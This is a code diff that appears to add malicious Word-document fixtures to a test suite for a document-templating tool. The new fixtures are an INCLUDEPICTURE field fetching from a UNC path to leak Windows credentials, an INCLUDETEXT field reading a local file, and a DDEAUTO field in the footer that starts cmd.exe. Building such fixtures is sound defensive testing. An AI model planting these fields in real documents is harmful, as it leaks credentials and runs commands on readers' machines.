@@ -225,6 +225,54 @@ def entity(parts: Parts) -> None:
     parts["word/document.xml"] = text.replace("{{ title }}", "{{ title }} &x;", 1).encode()
 
 
+def _field_runs(instruction: str, shown: str) -> str:
+    """A complex field as Word stores it: the instruction in pieces over three runs."""
+    third = max(1, len(instruction) // 3)
+    pieces = [instruction[:third], instruction[third : 2 * third], instruction[2 * third :]]
+    escaped = [p.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;") for p in pieces]
+    return (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + "".join(
+            f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in escaped
+        )
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        + f"<w:r><w:t>{shown}</w:t></w:r>"
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def include_picture_unc(parts: Parts) -> None:
+    """A web bug that leaks Windows credentials: a picture field fetched from a UNC path."""
+    field = _field_runs(' INCLUDEPICTURE "\\\\fileserver\\share\\pixel.png" \\d ', "")
+    _after_title(parts, f"<w:p>{field}</w:p>")
+
+
+def include_text_simple(parts: Parts) -> None:
+    """A local file's text pulled in by a simple field when the fields are updated."""
+    _after_title(
+        parts,
+        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\Users\\Public\\hemmeligt.txt&quot; ">'
+        "<w:r><w:t>tekst</w:t></w:r></w:fldSimple></w:p>",
+    )
+
+
+def ddeauto_in_footer(parts: Parts) -> None:
+    """Word's DDE attack, in the footer: DDEAUTO asks to start a program when the file opens."""
+    field = _field_runs(' DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc" ', "x")
+    _replace(parts, "word/footer1.xml", "</w:ftr>", f"<w:p>{field}</w:p></w:ftr>")
+
+
+def harmless_fields(parts: Parts) -> None:
+    """Fields that fetch nothing: a HYPERLINK (followed on a click), a date and a page number."""
+    fields = (
+        _field_runs(' HYPERLINK "https://ballerup.dk/budget" ', "Budgettet")
+        + '<w:r><w:t xml:space="preserve"> </w:t></w:r>'
+        + _field_runs(' DATE \\@ "d. MMMM yyyy" ', "1. januar 2026")
+        + '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
+    )
+    _after_title(parts, f"<w:p>{fields}</w:p>")
+
+
 TEMPLATES: dict[str, Callable[[Parts], None]] = {
     "attached-template": attached_template,
     "attached-template-unc": lambda p: attached_template(p, "file://///fileserver/share/x.dotm"),
@@ -236,6 +284,10 @@ TEMPLATES: dict[str, Callable[[Parts], None]] = {
     "safe": tag_edit('{{ "<w:p>"|safe }}'),
     "entity": entity,
     "repeat": tag_edit('{{ "x" * 999999999 }}'),
+    "includepicture-unc": include_picture_unc,
+    "includetext": include_text_simple,
+    "ddeauto-footer": ddeauto_in_footer,
+    "harmless-fields": harmless_fields,
 }
 
 
